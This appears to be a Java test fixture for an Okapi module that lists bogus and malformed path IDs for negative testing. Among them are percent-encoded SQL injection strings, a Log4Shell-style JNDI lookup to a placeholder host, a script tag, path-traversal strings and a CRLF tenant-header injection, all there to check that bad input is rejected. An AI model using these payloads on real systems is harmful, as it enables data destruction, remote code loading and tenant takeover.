package org.folioext.okapitesting;

import java.util.List;

/** Ids that name nothing, as a path may hold them: percent-encoded. */
public final class PathIds {
  /** Of the right form. */
  public static final List<String> OF_NOBODY =
      List.of(
          "0d9ea5f6-8a65-4a33-9a53-1f3e6b0f2c11",
          "00000000-0000-0000-0000-000000000000",
          "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF");

  /** Of none. */
  public static final List<String> MALFORMED =
      List.of(
          "x",
          "-1",
          "0",
          "null",
          "*",
          "%25",
          "%20",
          "1-1-1-1-1",
          "0d9ea5f6-8a65-4a33-9a53-1f3e6b0f2c1",
          "%7B0d9ea5f6-8a65-4a33-9a53-1f3e6b0f2c11%7D",
          "%27%3B%20DROP%20TABLE%20run%3B%20--",
          "%27%20OR%20%271%27%3D%271",
          "%24%7Bjndi%3Aldap%3A%2F%2Fnowhere.example%2Fx%7D",
          "%3Cscript%3E",
          "%E2%82%AC",
          "%D9%A1%D9%A2",
          "%F0%9F%98%80",
          "0d9ea5f6%E2%80%908a65-4a33-9a53-1f3e6b0f2c11",
          "9".repeat(40),
          "a".repeat(3000));

  /** Not even text, or a way to somewhere else. */
  public static final List<String> TRICKS =
      List.of(
          "",
          ".",
          "..",
          "%2E%2E",
          "..%2F..%2Fsettings",
          "..%5C..%5Csettings",
          "%00",
          "%0D%0AX-Okapi-Tenant%3A%20owner",
          "%FF",
          "%C3%28",
          "%zz",
          ";id=x",
          "x%3Fquery=id%3D%3Dx",
          "b".repeat(9000));

  private PathIds() {}
}
